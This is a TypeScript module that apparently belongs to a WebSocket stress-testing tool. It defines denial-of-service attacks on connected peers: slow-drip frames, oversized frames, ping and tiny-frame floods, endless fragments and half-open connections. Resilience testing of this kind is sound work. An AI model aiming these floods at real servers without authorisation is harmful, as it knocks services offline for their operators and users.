/** Attacks of connected peers with frames, whatever is in them. */
import { CROWD, PEERS } from '../plan/attack-plan.js';
import { keepPeers } from '../raw/hostile-peer.js';
import { maskedFrame } from '../raw/masked-frame.js';
import type { Attack } from './attack.js';

/** Pieces of this size, bytes, leave the attacker with little to do. */
const PIECE_BYTES = 65_536;

function piecesOf(frame: Uint8Array): Buffer {
  return Buffer.concat(Array.from({ length: Math.ceil(PIECE_BYTES / frame.length) }, () => frame));
}

function pouring(piece: Buffer): Attack {
  return (pool) => keepPeers(pool, PEERS, ({ socket }) => pool.pour(socket, () => piece));
}

/** Each byte a segment of its own, as far as the network leaves it one. */
const slowFrames: Attack = (pool) => {
  const head = maskedFrame(Buffer.alloc(0), { declaredBytes: 1_048_576 });
  const byte = Buffer.alloc(1);
  keepPeers(pool, PEERS, ({ socket }) => {
    pool.write(socket, head);
    pool.trickle(socket, () => byte, 1);
  });
};

const fragments: Attack = (pool) => {
  const first = maskedFrame(Buffer.alloc(1), { fin: false });
  const further = piecesOf(maskedFrame(Buffer.alloc(1), { opcode: 0, fin: false }));
  keepPeers(pool, PEERS, ({ socket }) => {
    pool.write(socket, first);
    pool.pour(socket, () => further);
  });
};

const halfOpen: Attack = (pool) => keepPeers(pool, CROWD, ({ socket }) => socket.pause());

export const frameAttacks = {
  'slow-frames': slowFrames,
  'large-frames': pouring(maskedFrame(Buffer.alloc(1_048_576, 0xff))),
  pings: pouring(piecesOf(maskedFrame(Buffer.alloc(0), { opcode: 9 }))),
  'tiny-frames': pouring(piecesOf(maskedFrame(Buffer.alloc(0)))),
  fragments,
  'half-open': halfOpen,
} satisfies Record<string, Attack>;
